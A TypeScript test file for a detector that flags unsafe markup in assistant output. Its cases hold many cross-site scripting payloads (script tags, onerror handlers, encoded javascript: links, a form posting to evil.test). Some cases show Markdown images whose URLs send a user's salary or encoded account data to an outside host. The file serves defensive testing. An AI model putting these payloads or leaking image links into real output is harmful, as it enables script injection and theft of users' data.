import { analyzeText } from '../../normalize/analyze-text';
import type { AnalysisContext } from '../../types';
import { UnsafeMarkupDetector } from './unsafe-markup.detector';

const detector = new UnsafeMarkupDetector({ allowedImageHosts: ['cdn.acme.io'] });
const detect = (text: string, context: Partial<AnalysisContext> = {}) =>
  detector.detect(analyzeText(text), { direction: 'output', ...context });
const evidence = (text: string, context?: Partial<AnalysisContext>) =>
  detect(text, context).map((f) => text.slice(f.span!.start, f.span!.end));

describe('UnsafeMarkupDetector', () => {
  it('is an output detector whose findings ask for sanitising', () => {
    expect(detector.directions).toEqual(['output']);
    expect(detect('<script>x()</script>')[0]).toMatchObject({
      detector: 'markup.unsafe',
      category: 'unsafe_markup',
      sanitize: true,
    });
  });

  it.each([
    ['a script element, whole', 'a <script>fetch("/x")</script> b', '<script>fetch("/x")</script>'],
    [
      'a script element left open, to the end',
      'a <SCRIPT src=//evil.test/x.js>',
      '<SCRIPT src=//evil.test/x.js>',
    ],
    [
      'an iframe',
      'see <iframe src="https://evil.test"></iframe>',
      '<iframe src="https://evil.test"></iframe>',
    ],
    [
      'an object',
      '<object data="x.swf"><param name=a></object>',
      '<object data="x.swf"><param name=a></object>',
    ],
    ['an embed', '<embed src="x.swf">', '<embed src="x.swf">'],
    [
      'a meta refresh',
      '<meta http-equiv="refresh" content="0;url=https://evil.test">',
      '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    ],
    ['an event handler', '<img src=x onerror=alert(1)>', 'onerror=alert(1)'],
    ['an event handler on svg', '<svg/onload="alert(1)">', 'onload="alert(1)"'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)'],
    [
      'an entity-encoded javascript: link',
      '<a href="&#106;ava&#x73;cript&colon;alert(1)">x</a>',
      '&#106;ava&#x73;cript&colon;alert(1)',
    ],
    ['a javascript: link split by a tab', "<a href='java\tscript:alert(1)'>x</a>", 'java\tscript:alert(1)'],
    ['a vbscript: URL', '<a href=vbscript:msgbox(1)>x</a>', 'vbscript:msgbox(1)'],
    [
      'a data:text/html URL',
      '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
      'data:text/html;base64,PHNjcmlwdD4=',
    ],
    [
      'a form posting elsewhere',
      '<form action="https://evil.test/login"><input name=p></form>',
      'https://evil.test/login',
    ],
    [
      'a Markdown link to javascript:',
      'click [here](javascript:alert(document.cookie))',
      'javascript:alert(document.cookie)',
    ],
    ['a Markdown image with a javascript: URL', '![x](javascript:alert(1))', 'javascript:alert(1)'],
    ['a reference-style javascript: link', '[docs][1]\n\n[1]: javascript:alert(1)', 'javascript:alert(1)'],
  ])('finds %s', (_label, text, expected) => {
    expect(evidence(text)).toEqual([expected]);
  });

  it('finds a Markdown image that sends conversation text to another host', () => {
    const text = 'Done! ![loading](https://evil.test/pixel.png?d=my%20salary%20is%2095000%20dollars)';
    const findings = detect(text, {
      messages: [{ role: 'user', content: 'My salary is 95000 dollars, can I afford it?' }],
    });
    expect(findings).toHaveLength(1);
    expect(findings[0].score).toBeGreaterThanOrEqual(0.95);
    expect(text.slice(findings[0].span!.start, findings[0].span!.end)).toBe(
      'https://evil.test/pixel.png?d=my%20salary%20is%2095000%20dollars',
    );
  });

  it('finds image URLs carrying encoded or long data, in Markdown and in <img>', () => {
    const encoded = `![](https://evil.test/p?x=${Buffer.from('user: jane, account 4471, balance 9,120').toString('base64')})`;
    expect(detect(encoded)[0].score).toBeGreaterThanOrEqual(0.8);
    const long = `<img src="https://evil.test/i.gif?q=${'the+quarterly+numbers+'.repeat(4)}">`;
    expect(detect(long)).toHaveLength(1);
  });

  it.each([
    [
      'an ordinary Markdown link and image',
      'See [the docs](https://docs.acme.io/guide?page=2) and ![logo](https://acme.io/logo.png).',
    ],
    [
      'an image on an allowed host, however long its query',
      `![chart](https://cdn.acme.io/c.png?${'series=a&'.repeat(30)})`,
    ],
    [
      'HTML in a fenced code block the user asked to explain',
      'This snippet:\n\n```html\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>\n```\n\nruns alert.',
    ],
    ['HTML in inline code', 'The `onerror=` attribute in `<img onerror=...>` and `<script>` tags run code.'],
    [
      'harmless HTML',
      '<p class="note">Hello <b>world</b>, <a href="https://acme.io/#top" title="top">top</a></p>',
    ],
    [
      'words that look like handlers',
      'Click "online" or "onboarding": the one=two and <b>on</b> words are fine.',
    ],
    ['comparisons in prose', 'if a < b and b > c then a<c; x <script-free> text'],
  ])('ignores %s', (_label, text) => {
    expect(detect(text)).toEqual([]);
  });
});
